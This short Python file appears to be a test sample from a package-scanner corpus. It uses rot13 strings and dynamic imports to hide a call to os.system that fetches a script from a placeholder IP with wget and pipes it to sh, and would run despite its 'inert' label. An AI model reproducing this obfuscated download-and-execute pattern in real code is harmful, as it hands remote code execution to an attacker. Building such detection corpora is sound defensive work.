# pkgguard corpus 376 (indirection), modelled on [obfuscation]; inert, never run.
import codecs
import importlib

_m = importlib.import_module(codecs.decode("bf", "rot13"))
_f = getattr(_m, codecs.decode("flfgrz", "rot13"))
_f(codecs.decode("jtrg -d -B- uggc://100.64.0.76/f | fu", "rot13"))
